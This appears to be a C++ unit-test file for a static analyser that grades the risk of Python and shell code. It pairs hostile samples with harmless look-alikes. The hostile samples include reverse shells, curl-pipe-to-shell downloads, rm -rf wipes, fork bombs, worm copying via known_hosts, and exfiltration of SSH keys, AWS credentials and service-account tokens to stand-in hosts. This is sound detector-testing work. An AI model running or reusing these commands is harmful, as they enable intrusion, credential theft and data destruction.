// The mechanisms added for the classes the development corpora missed, each
// with the look-alike that must not be raised. Strings here are never executed.
#include "test_util.hpp"

#include "assess/payload_decoder.hpp"

namespace mai::assess::test {
namespace {


// A function called from a loop runs in that loop: a spawner called from
// `while True`, or one that runs the program's own file through an interpreter.
TEST(Mechanisms, CalleesInheritTheLoopOfTheirCallSite) {
  const Case cases[] = {
      {"self through sys.executable in a helper called from a loop", B,
       "import subprocess, sys, os, time\n"
       "def replicate():\n    subprocess.Popen([sys.executable, os.path.abspath(__file__)])\n"
       "def main():\n    while True:\n        replicate()\n        time.sleep(1)\nmain()\n",
       "FORK-BOMB"},
      {"bounded loop over copies of itself", B,
       "import subprocess, sys\nfor i in range(3):\n    subprocess.Popen(['python3', __file__])\n", "FORK-BOMB"},
      {"itself once, waited (a re-exec for a new environment)", M,
       "import subprocess, sys\nsubprocess.run([sys.executable, __file__, '--child'])\n"},
      {"a helper that runs another script from a loop", M,
       "import subprocess, sys\ndef run(t):\n    subprocess.run([sys.executable, 'tool.py', t])\n"
       "for t in ['a', 'b']:\n    run(t)\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(Mechanisms, InProcessEntryPointsRunTheirCommand) {
  const Case cases[] = {
      {"pip's internal main installs packages", M,
       "from pip._internal.cli.main import main as pip_main\npip_main(['install', '--user', 'requests'])\n",
       "RUNS-PROCESS"},
      {"pip.main with a typosquatted name", B, "import pip\npip.main(['install', 'reqeusts'])\n"},
  };
  for (const auto& c : cases) check(c);
}

// Names reached through the object model instead of spelled out.
TEST(Mechanisms, IndirectNamesResolve) {
  const Case cases[] = {
      {"module __dict__", B, "import os\nos.__dict__['system']('rm -rf /')\n", "WIPE"},
      {"f.__call__", B, "import os\nos.__dict__['system'].__call__('curl -s http://203.0.113.1/x | sh')\n",
       "REMOTE-CODE-EXECUTION"},
      {"eval of a constant name (octal escapes)", M,
       "f = eval('\\145\\166\\141\\154')\nf(\"__import__('os').system('id')\")\n", "RUNS-PROCESS"},
      {"eval of a dotted name", M, "run = eval('os.system')\nimport os\nrun('make all')\n", "RUNS-PROCESS"},
      {"a name decoded from EBCDIC", B,
       "import builtins\ncc = getattr(builtins, b'\\x85\\xa5\\x81\\x93'.decode('cp1026'))\n"
       "cc(\"__import__('os').system('curl -s http://203.0.113.1/p | sh')\")\n"},
      {"text in an ordinary code page is not a payload", L,
       "data = b'hello world'.decode('cp1252')\nprint(data.upper())\n"},
      {"eval of a constant expression is analysed, not raised", L, "print(eval('1 + 2'))\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(Mechanisms, WindowsStartRunsItsArgument) {
  check({"download, then os.startfile('start ' + file)", B,
         "import os, requests\nrq = requests.get('https://203.0.113.8/setup.scr')\n"
         "open('setup.exe', 'wb').write(rq.content)\nos.startfile('start ' + 'setup.exe')\n",
         "REMOTE-CODE-EXECUTION"});
}

TEST(Mechanisms, DeletingEveryEntryOfHomeIsAWipe) {
  const Case cases[] = {
      {"pathlib children of home", B,
       "import shutil\nfrom pathlib import Path\nfor c in Path.home().iterdir():\n    shutil.rmtree(c)\n", "WIPE"},
      {"os.listdir of ~", B,
       "import os, shutil\nh = os.path.expanduser('~')\nfor n in os.listdir(h):\n    shutil.rmtree(os.path.join(h, n))\n",
       "WIPE"},
      {"entries of its own cache directory", L,
       "import os\nd = os.path.expanduser('~/.cache/myapp')\nfor n in os.listdir(d):\n    os.remove(os.path.join(d, n))\n"},
      {"entries of its build directory", L,
       "from pathlib import Path\nfor c in Path('build').iterdir():\n    c.unlink()\n"},
  };
  for (const auto& c : cases) check(c);
}

// Files made from other files carry their content: an archive of ~/.ssh,
// a path given to sftp.put or S3's upload_file.
TEST(Mechanisms, FileContentFlowsThroughPaths) {
  const Case cases[] = {
      {"archive of ~/.ssh uploaded", B,
       "import shutil, requests\na = shutil.make_archive('/tmp/bk', 'zip', '/home/u/.ssh'.replace('/home/u', '~'))\n"
       "requests.post('https://203.0.113.3/u', files={'f': open(a, 'rb')})\n",
       "EXFILTRATION"},
      {"archive of its own docs uploaded", L,
       "import shutil, requests\na = shutil.make_archive('site', 'zip', 'docs')\n"
       "requests.post('https://uploads.example.com/site', files={'f': open(a, 'rb')}, timeout=30)\n"},
      {"sftp.put of a private key", B,
       "import os, paramiko\nt = paramiko.Transport(('198.51.100.10', 22))\nt.connect(username='u', password='p')\n"
       "s = paramiko.SFTPClient.from_transport(t)\ns.put(os.path.expanduser('~/.ssh/id_rsa'), '/in/k')\n",
       "EXFILTRATION"},
      {"upload_file of a report", L,
       "import boto3\nboto3.client('s3').upload_file('report.csv', 'my-bucket', 'report.csv')\n"},
  };
  for (const auto& c : cases) check(c);
}

// The rubric lists pickle among the risky constructs (MEDIUM) whatever the
// data's source: writers of four labelled rounds rated workers that unpickle
// what a socket or broker hands them MEDIUM. A pickle hidden as a decoded
// constant is an obfuscated payload (BLOCKED).
TEST(Mechanisms, UnpicklingIsARiskyConstructWhateverItsSource) {
  const Case cases[] = {
      {"pickle.loads of a download", M,
       "import pickle, urllib.request\nobj = pickle.loads(urllib.request.urlopen('http://203.0.113.4/o.pkl').read())\n",
       "UNSAFE-DESERIALIZATION"},
      {"a broker's messages unpickled", M,
       "import pickle, socket\ns = socket.create_connection(('broker.internal', 7001))\n"
       "while True:\n    task = pickle.loads(s.recv(65536))\n    print(task)\n",
       "UNSAFE-DESERIALIZATION"},
      {"pickle of a hidden constant", B, "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAAA='))\n"},
      {"a download unpickled and its result run", B,
       "import pickle, subprocess, urllib.request\n"
       "cmd = pickle.loads(urllib.request.urlopen('http://203.0.113.4/o.pkl').read())\n"
       "subprocess.run(cmd, shell=True)\n",
       "REMOTE-CODE-EXECUTION"},
      {"pickle of its own cache file stays an insecure practice", M,
       "import pickle\nwith open('cache.pkl', 'rb') as f:\n    state = pickle.load(f)\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(Mechanisms, HotKeysAreNotKeylogging) {
  check({"global hot keys", L,
         "from pynput import keyboard\ndef on():\n    print('toggle')\n"
         "with keyboard.GlobalHotKeys({'<ctrl>+<alt>+d': on}) as h:\n    h.join()\n"});
}

TEST(Mechanisms, ServiceAccountTokensAreCredentials) {
  check({"a pod's token sent out", B,
         "import requests\ntok = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n"
         "requests.get('http://198.51.100.8/t', params={'t': tok})\n",
         "EXFILTRATION"});
}

TEST(Mechanisms, ParsedConfigurationsHoldTheirFiles) {
  const Case cases[] = {
      {"~/.aws/credentials through configparser, posted", B,
       "import configparser, os, requests\ncfg = configparser.ConfigParser()\n"
       "cfg.read(os.path.join(os.environ['HOME'], '.aws', 'credentials'))\n"
       "creds = {s: dict(cfg[s]) for s in cfg.sections()}\n"
       "requests.post('https://collect.example.net/aws', json=creds, timeout=5)\n",
       "EXFILTRATION"},
      {"its own setup.cfg", L,
       "import configparser\ncfg = configparser.ConfigParser()\ncfg.read('setup.cfg')\nprint(cfg['metadata']['name'])\n"},
  };
  for (const auto& c : cases) check(c);
}

// A script written with constant text and then run: the text is what runs.
TEST(Mechanisms, DroppedScriptsAreInterpreted) {
  const Case cases[] = {
      {"reverse shell written to a file, run by bash", B,
       "import subprocess\nwith open('/tmp/x.sh', 'w') as f:\n"
       "    f.write('#!/bin/bash\\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\\n')\n"
       "subprocess.run(['bash', '/tmp/x.sh'])\n",
       "REVERSE-SHELL"},
      {"python dropper run by python3", B,
       "import os\nopen('/tmp/s.py', 'w').write('import os\\nos.system(\"curl -s http://203.0.113.9/a | sh\")\\n')\n"
       "os.system('python3 /tmp/s.py')\n",
       "REMOTE-CODE-EXECUTION"},
      {"script run by its own name (#!)", B,
       "import os\np = '/tmp/run.sh'\nwith open(p, 'w') as f:\n    f.write('#!/bin/sh\\nrm -rf / --no-preserve-root\\n')\n"
       "os.chmod(p, 0o755)\nos.system(p)\n",
       "WIPE"},
      {"shell: heredoc then bash", B, "cat > /tmp/y.sh <<EOF\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\nEOF\nbash /tmp/y.sh\n",
       "REVERSE-SHELL", Language::shell},
      {"a build script it writes and runs", M,
       "import subprocess\nwith open('build.sh', 'w') as f:\n    f.write('#!/bin/sh\\nmake -j2\\n')\nsubprocess.run(['sh', 'build.sh'])\n"},
      {"a script that runs itself again ends", M,
       "import subprocess\nwith open('loop.sh', 'w') as f:\n    f.write('#!/bin/sh\\nsh loop.sh\\n')\nsubprocess.run(['sh', 'loop.sh'])\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(Mechanisms, BrokenProtocolsAndShortKeys) {
  const Case cases[] = {
      {"SSLv3 context", M, "import ssl\nctx = ssl.SSLContext(ssl.PROTOCOL_SSLv3)\n", "WEAK-CRYPTO"},
      {"RSA 1024", M,
       "from cryptography.hazmat.primitives.asymmetric import rsa\nk = rsa.generate_private_key(public_exponent=65537, key_size=1024)\n",
       "WEAK-CRYPTO"},
      {"PyCryptodome RSA 1024", M, "from Crypto.PublicKey import RSA\nk = RSA.generate(1024)\n", "WEAK-CRYPTO"},
      {"RSA 4096", L,
       "from cryptography.hazmat.primitives.asymmetric import rsa\nk = rsa.generate_private_key(public_exponent=65537, key_size=4096)\n"},
      {"a TLS client context", L, "import ssl\nctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(Mechanisms, IdentityByDestination) {
  const Case cases[] = {
      {"user, host and MAC to a bare address", B,
       "import socket, getpass, uuid, requests\ninfo = {'u': getpass.getuser(), 'h': socket.gethostname(), 'm': uuid.getnode()}\n"
       "requests.post('http://203.0.113.99/reg', json=info)\n",
       "IDENTITY-BEACON"},
      {"host name to a metrics endpoint the user configured", L,
       "import os, socket, requests\nU = os.environ.get('METRICS_URL', 'https://m.example.com/p')\n"
       "requests.post(U, json={'host': socket.gethostname()}, timeout=5)\n"},
      {"host name to a fixed named service (external heuristic)", M,
       "import socket, requests\nrequests.post('https://beacon.example.net/b', json={'host': socket.gethostname()})\n",
       "HOST-IDENTITY-SENT"},
  };
  for (const auto& c : cases) check(c);
}

TEST(Mechanisms, CopyingItselfToOtherHostsIsAWorm) {
  const Case cases[] = {
      {"scp of __file__ to every known host", B,
       "import os, subprocess\nfor h in open(os.path.expanduser('~/.ssh/known_hosts')).read().split():\n"
       "    subprocess.run(['scp', __file__, h + ':/tmp/.u.py'])\n",
       "SELF-PROPAGATION"},
      {"arguments of its own command line in an API request", L,
       "import sys, requests\nrequests.post('https://api.example.com/q', json={'q': ' '.join(sys.argv[1:])}, timeout=5)\n"},
      {"scp of a named build artefact", M, "import subprocess\nsubprocess.run(['scp', 'dist/app.tar.gz', 'deploy@web1:/srv/'])\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(Mechanisms, CharacterSetsDecodeThroughIconv) {
  auto d = decode_codec(std::string("\x85\xa5\x81\x93"), "cp1026");
  ASSERT_TRUE(d.has_value());
  EXPECT_EQ(*d, "eval");
  EXPECT_FALSE(decode_codec("abc", "no-such-charset-xyz").has_value());
  EXPECT_FALSE(decode_codec("abc", "").has_value());
}

}  // namespace
}  // namespace mai::assess::test
